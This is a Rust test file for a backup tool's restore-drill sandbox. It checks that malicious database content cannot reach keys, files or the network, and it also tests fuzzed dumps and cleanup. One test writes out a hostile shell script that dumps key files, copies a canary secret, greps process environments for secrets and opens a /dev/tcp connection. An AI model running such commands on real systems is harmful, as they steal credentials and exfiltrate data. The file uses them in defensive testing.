//! Whoever can write to a captured database decides what a drill runs, and reaches no key by it.
//!
//! The attacks run in a real throw-away server, as its superuser. They are tried twice: with root
//! as the broker, whose worker is another user, and with an ordinary user, where Landlock and
//! seccomp alone stand between. systemd's part of the sandbox is in `booted.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, chown};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use lifeboat_engine::base::facts::SourceFacts;
use lifeboat_engine::config::{ReplicaConfig, ReplicaKind};
use lifeboat_engine::databases::streams::StreamSink;
use lifeboat_engine::keys::DRILL_HOST_FOLDER;
use lifeboat_engine::store::bandwidth::Bandwidth;
use lifeboat_engine::worker::protocol::DrillTools;
use lifeboat_engine::worker::{WorkerPlace, throw_away};
use lifeboat_tests::bait::{SHOW_LOOT, bait, found, program};
use lifeboat_tests::host::{BackupHost, section};
use lifeboat_tests::postgres::Postgres;
use lifeboat_tests::programs::{self, run};
use lifeboat_tests::streams::MemoryStreams;
use lifeboat_tests::vault::{files_below, name, noise};
use lifeboat_tests::work::{captured, context};
use tempfile::TempDir;
use tokio::net::UnixListener;
use tokio::process::Command;

const CANARY: &str = "AGE-SECRET-KEY-1CANARY";
const DEADLINE: Duration = Duration::from_secs(180);
const NOBODY: u32 = 65534;

fn open_directory(mode: u32) -> TempDir {
    let directory = tempfile::Builder::new().prefix("lifeboat-apart-").tempdir_in("/tmp").unwrap();
    fs::set_permissions(directory.path(), fs::Permissions::from_mode(mode)).unwrap();
    directory
}

/// A host that backed `server` up, and drills with `drill` as its `[dataset.drill]`. A canary that
/// everybody may read stands beside its keys.
struct Attacked {
    host: BackupHost,
    vault: TempDir,
    /// Programs and temporary files of the drill, where `nobody` reaches them.
    place: TempDir,
}

impl Attacked {
    async fn back_up(server: &Postgres, drill: &str) -> Self {
        let (vault, place) = (open_directory(0o755), open_directory(0o711));
        let replica = ReplicaConfig {
            name: name("r1"),
            region: "away".to_owned(),
            kind: ReplicaKind::Directory { path: vault.path().to_owned() },
            timeout: Duration::from_secs(20),
            bandwidth: Bandwidth::default(),
        };
        let source = format!(
            "kind = \"postgres\"\nurl = \"{}\"\nclient_directories = [\"{}\"]\n[dataset.drill]\n{drill}",
            server.url("postgres"),
            server.programs().display()
        );
        let host = BackupHost::set_up(&[section(&replica)], &source).await;
        let keys = host.path().join("keys");
        fs::copy(keys.join(DRILL_HOST_FOLDER).join("drill-signer"), keys.join("drill-signer")).unwrap();
        let canary = host.path().join("keys/canary");
        fs::write(&canary, format!("{CANARY}\n")).unwrap();
        for (path, mode) in [(host.path().to_owned(), 0o755), (host.path().join("keys"), 0o755), (canary, 0o644)] {
            fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
        }
        for program in ["lifeboat", "lifeboat-worker"] {
            fs::copy(programs::directory().join(program), place.path().join(program)).unwrap();
        }
        let attacked = Self { host, vault, place };
        fs::create_dir(attacked.tmp()).unwrap();
        fs::set_permissions(attacked.tmp(), fs::Permissions::from_mode(0o1777)).unwrap();
        let backup = run(attacked.host.lifeboatd().arg("--once"), DEADLINE).await.unwrap();
        assert_eq!(backup.code(), Some(0), "{backup}");
        attacked
    }

    fn tmp(&self) -> PathBuf {
        self.place.path().join("tmp")
    }

    /// The drill, as `broker` runs it.
    fn drill(&self, broker: Broker) -> Command {
        let program = self.place.path().join("lifeboat");
        let mut command = match broker {
            Broker::Root => Command::new(program),
            Broker::Nobody => {
                let folders =
                    [self.host.path().to_owned(), self.host.path().join("keys"), self.host.path().join("state")];
                let vault = files_below(self.vault.path());
                for path in files_below(self.host.path()).into_iter().chain(folders).chain(vault) {
                    chown(path, Some(NOBODY), Some(NOBODY)).unwrap();
                }
                let mut setpriv = Command::new("setpriv");
                setpriv.args(["--reuid=65534", "--regid=65534", "--clear-groups"]).arg(program);
                setpriv
            }
        };
        command.arg("--config").arg(self.host.config()).arg("-i").arg(self.host.master());
        command.args(["-v", "--json", "drill", "data"]).env("TMPDIR", self.tmp()).env("CANARY", CANARY);
        command
    }
}

/// Who runs the drill.
#[derive(Debug, Clone, Copy)]
enum Broker {
    Root,
    Nobody,
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_that_run_programs_reach_neither_keys_nor_files_nor_the_network() {
    let loot = open_directory(0o777);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let server = Postgres::start().await;
    server.create_database("shop").await;
    let attacked = Attacked::back_up(&server, SHOW_LOOT).await;
    let script = format!(
        "cat {keys}/* 2>&1; ls {keys} 2>&1; cp {keys}/canary {loot}/stolen 2>&1; (echo x > {loot}/written) 2>&1; \
         grep -a CANARY /proc/[0-9]*/environ 2>/dev/null; \
         bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}' 2>&1; unshare -Ur true 2>&1; touch /dev/shm/{left} 2>&1; \
         setsid sleep 4711.{marker} >/dev/null 2>&1 & id -u; echo over",
        keys = attacked.host.path().join("keys").display(),
        loot = loot.path().display(),
        port = listener.local_addr().unwrap().port(),
        left = "lifeboat-left",
        marker = std::process::id(),
    );
    server.run_sql("shop", &bait(&program(&script))).await;
    let backup = run(attacked.host.lifeboatd().arg("--once"), DEADLINE).await.unwrap();
    assert_eq!(backup.code(), Some(0), "{backup}");

    for broker in [Broker::Root, Broker::Nobody] {
        let output = run(&mut attacked.drill(broker), DEADLINE).await.unwrap();
        let found = found(&output.json().unwrap());
        assert!(found.ends_with(&format!("{NOBODY} ~ over")), "{broker:?}: the attack was not carried out: {output}");
        assert!(found.contains("Permission denied"), "{broker:?}: {found}");
        assert!(!found.contains("CANARY"), "{broker:?}: a key was read: {found}");
        assert!(!found.contains("host.key"), "{broker:?}: the names of keys were read: {found}");
        assert!(listener.accept().is_err(), "{broker:?}: the network was reached");
        assert!(!Path::new("/dev/shm/lifeboat-left").exists(), "{broker:?}: shared memory was written");
        assert_eq!(processes_with(&format!("4711.{}", std::process::id())), [""; 0], "{broker:?}: a process is left");
        assert_eq!(files_below(loot.path()), Vec::<PathBuf>::new(), "{broker:?}: files were written");
        assert!(!output.stderr.contains(CANARY) && !output.stdout.contains(CANARY), "{broker:?}");
        assert_eq!(files_below(&attacked.tmp()), Vec::<PathBuf>::new(), "{broker:?}: files are left");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_database_says_is_told_here_and_not_published() {
    let server = Postgres::start().await;
    server.create_database("shop").await;
    server.run_sql("shop", &bait("RAISE EXCEPTION 'the card is 4111-1111-1111-1111';")).await;
    let attacked = Attacked::back_up(&server, "level = \"proved\"").await;
    let output = run(&mut attacked.drill(Broker::Root), DEADLINE).await.unwrap();
    assert_ne!(output.code(), Some(0), "{output}");
    let report = output.json().unwrap();
    let said = report["error"].as_str().unwrap();
    assert!(said.contains("4111-1111-1111-1111"), "the operator is not told: {output}");

    let published =
        files_below(attacked.vault.path()).into_iter().filter(|path| path.to_string_lossy().contains("/drills/"));
    let text: String = published.map(|path| String::from_utf8_lossy(&fs::read(path).unwrap()).into_owned()).collect();
    assert!(!text.contains("4111"), "{text}");
    let digest = blake3::hash(said.as_bytes()).to_hex();
    assert!(text.contains(&format!("BLAKE3 of the text: {digest}")), "{text}\n{output}");
}

/// Processes whose command line has `part`.
fn processes_with(part: &str) -> Vec<String> {
    let all = fs::read_dir("/proc").unwrap().flatten();
    let lines = all.filter_map(|entry| fs::read(entry.path().join("cmdline")).ok());
    lines.map(|line| String::from_utf8_lossy(&line).replace('\0', " ")).filter(|line| line.contains(part)).collect()
}

fn processes_in(directory: &Path) -> Vec<String> {
    processes_with(&directory.to_string_lossy())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_broker_that_is_killed_leaves_no_server_and_no_files() {
    let server = Postgres::start().await;
    server.create_database("shop").await;
    server.run_sql("shop", "CREATE TABLE slow AS SELECT n FROM generate_series(1, 400000) n").await;
    let attacked = Attacked::back_up(&server, "level = \"proved\"").await;
    let tmp = attacked.tmp();
    let mut drill = attacked.drill(Broker::Root);
    let mut broker = drill.stdout(Stdio::null()).stderr(Stdio::null()).kill_on_drop(true).spawn().unwrap();
    let began = Instant::now();
    while !processes_in(&tmp).iter().any(|line| line.contains("postgres -D")) {
        assert!(began.elapsed() < DEADLINE && broker.try_wait().unwrap().is_none(), "no throw-away server was seen");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    broker.kill().await.unwrap();
    let began = Instant::now();
    while !(processes_in(&tmp).is_empty() && files_below(&tmp).is_empty()) {
        assert!(began.elapsed() < Duration::from_secs(60), "left: {:?} {:?}", processes_in(&tmp), files_below(&tmp));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Loads `streams` in a worker, as far as that goes; returns what the worker said.
async fn drilled(streams: &MemoryStreams) -> String {
    let scratch = open_directory(0o755);
    let cx = context(&scratch);
    match throw_away(&programs::worker(), streams, DrillTools::default(), &cx).await {
        Err(error) => error.chain_and_hint(),
        Ok(None) => "no throw-away database".to_owned(),
        Ok(Some(mut restored)) => {
            let said = match restored.load(streams).await {
                Err(error) => error.chain_and_hint(),
                Ok(()) => format!("{:?} {:?}", restored.check(&[]).await, restored.prove(streams).await),
            };
            // The worker may be gone.
            let _ = restored.stop().await;
            said
        }
    }
}

/// Neither reads what the broker has to say.
#[tokio::test(flavor = "multi_thread")]
async fn a_worker_that_ends_before_it_listens_says_why_and_one_that_was_never_there_is_told() {
    let (place, streams) = (open_directory(0o755), MemoryStreams::default());
    let scratch = open_directory(0o755);
    let cx = context(&scratch);
    let program = place.path().join("lifeboat-worker");
    fs::write(&program, "#!/bin/sh\nsleep 0.5\necho the disk is full >&2\nexit 7\n").unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    let ended = throw_away(&WorkerPlace::Program(program), &streams, DrillTools::default(), &cx).await.err().unwrap();
    for part in ["ended before its work was done", "exit status: 7", "saying: the disk is full"] {
        assert!(ended.message().contains(part), "{part}: {}", ended.chain_and_hint());
    }

    // So systemd does when MaxConnections= are there.
    let path = place.path().join("socket");
    let listener = UnixListener::bind(&path).unwrap();
    let closing = tokio::spawn(async move {
        let (connection, _) = listener.accept().await.unwrap();
        connection.readable().await.unwrap();
    });
    let refused = throw_away(&WorkerPlace::Socket(path), &streams, DrillTools::default(), &cx).await.err().unwrap();
    closing.await.unwrap();
    assert!(refused.message().contains("no worker was free"), "{}", refused.chain_and_hint());
    assert!(refused.hint_text().unwrap().contains("MaxConnections="), "{}", refused.chain_and_hint());
}

/// The streams with some of their bytes changed, the same ones for the same seed.
fn fuzzed(good: &MemoryStreams, seed: u64) -> MemoryStreams {
    let streams = MemoryStreams { facts: good.facts.clone(), ..MemoryStreams::default() };
    streams.order.lock().unwrap().clone_from(&good.order.lock().unwrap());
    let mut contents = good.streams.lock().unwrap().clone();
    let random = noise(4096, seed);
    let mut changes = random[1..].chunks_exact(9);
    for (content, _) in contents.values_mut().filter(|(content, _)| !content.is_empty()) {
        for change in changes.by_ref().take(1 + usize::from(random[0] % 12)) {
            let place = usize::from_le_bytes(change[..8].try_into().unwrap()) % content.len();
            content[place] = change[8];
        }
    }
    *streams.streams.lock().unwrap() = contents;
    streams
}

const EQUAL: &str = "differences: []";

/// Drills fuzzed dumps of `good`, beside a canary that everybody may read.
async fn assert_canary_unseen(good: &MemoryStreams, rounds: u64) {
    let keys = open_directory(0o755);
    let canary = keys.path().join("identity");
    fs::write(&canary, CANARY).unwrap();
    let said = drilled(good).await;
    assert!(said.contains(EQUAL), "the dump as it is: {said}");
    let mut failed = 0;
    for seed in 0..rounds {
        let said = drilled(&fuzzed(good, seed)).await;
        assert!(!said.contains("CANARY"), "seed {seed}: {said}");
        assert_eq!(fs::read_to_string(&canary).unwrap(), CANARY, "seed {seed}");
        assert_eq!(files_below(keys.path()), std::slice::from_ref(&canary), "seed {seed}");
        failed += u64::from(!said.contains(EQUAL));
    }
    assert!(failed > 0, "no fuzzed dump failed");
}

#[tokio::test(flavor = "multi_thread")]
async fn fuzzed_postgres_dumps_reach_no_canary() {
    let server = Postgres::start().await;
    server.create_database("shop").await;
    let sql = "CREATE TABLE t AS SELECT n, n::text AS s FROM generate_series(1, 200) n; CREATE INDEX ON t (s)";
    server.run_sql("shop", sql).await;
    let scratch = TempDir::new().unwrap();
    let good = captured(&server, 64 << 20, &context(&scratch)).await;
    assert_canary_unseen(&good, 6).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fuzzed_sqlite_files_reach_no_canary() {
    let place = TempDir::new().unwrap();
    let path = place.path().join("db.sqlite");
    let connection = rusqlite::Connection::open(&path).unwrap();
    connection
        .execute_batch(
            "CREATE TABLE t (n INTEGER PRIMARY KEY, s TEXT); CREATE INDEX i ON t (s); \
             CREATE VIEW v AS SELECT count(*) FROM t; \
             CREATE TRIGGER g AFTER INSERT ON t BEGIN DELETE FROM t WHERE n < 0; END; \
             WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 2000) \
             INSERT INTO t SELECT n, 'row ' || n FROM c;",
        )
        .unwrap();
    drop(connection);
    let facts = SourceFacts { engine: "sqlite".to_owned(), ..SourceFacts::default() };
    let good = MemoryStreams { facts, ..MemoryStreams::default() };
    let mut writer = good.open("database").unwrap();
    writer.write(fs::read(&path).unwrap().into()).await.unwrap();
    writer.finish(0).await.unwrap();
    assert_canary_unseen(&good, 25).await;
}
